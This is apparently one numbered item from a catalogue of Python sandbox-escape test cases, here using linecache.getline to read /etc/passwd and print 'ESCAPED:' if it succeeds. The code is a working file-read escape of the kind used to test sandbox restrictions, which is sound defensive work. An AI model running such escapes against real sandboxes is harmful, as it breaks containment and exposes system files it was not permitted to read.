# escape: 034
# technique: linecache.getline opens any file for the guest
# family: dfile
# goal: read-file
# first-seen: HackTricks
import linecache
s = linecache.getline('/etc/passwd', 1)
if 'root:' in s: print('ESCAPED:' + s[:12])
